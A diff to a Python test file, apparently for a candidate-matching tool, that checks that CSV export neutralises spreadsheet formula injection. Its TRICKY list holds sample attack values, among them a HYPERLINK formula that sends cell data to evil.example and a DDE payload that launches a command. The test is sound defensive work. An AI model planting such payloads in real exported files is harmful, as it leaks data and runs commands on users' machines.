@@ -1,5 +1,7 @@
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 from factories import tiny_world
@@ -95,3 +97,31 @@ def test_list_fields_and_empty_cells(tmp_path):
     contents = read_folder(tmp_path)
     c1 = next(c for c in contents.records[Candidate] if c.id == "C1")
     assert c1.limits == [] and c1.available_from is None
+
+
+TRICKY = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "'=al beschermd",
+    "''+twee keer",
+    "Gewoon een wens, met = verderop.",
+]
+
+
+def test_export_neutralises_formulas_and_import_gives_back_exactly_what_was_written(tmp_path):
+    from factories import make_candidate
+
+    from matching.records.schemas import Candidate
+
+    candidates = [make_candidate(f"C{i}", wishes=text) for i, text in enumerate(TRICKY)]
+    write_folder(tmp_path, {Candidate: candidates})
+    cells = [row[list(Candidate.model_fields).index("wishes")]
+             for row in csv.reader(io.StringIO((tmp_path / "candidates.csv").read_text("utf-8")))][1:]
+    # nothing a spreadsheet would run: every cell starting with = + - @ is quoted
+    assert all(not c or c[0] not in "=+-@" for c in cells)
+    assert cells[0].startswith("'=HYPERLINK") and cells[-1] == TRICKY[-1]
+    contents = read_folder(tmp_path)
+    assert not contents.errors
+    assert [c.wishes for c in contents.records[Candidate]] == TRICKY
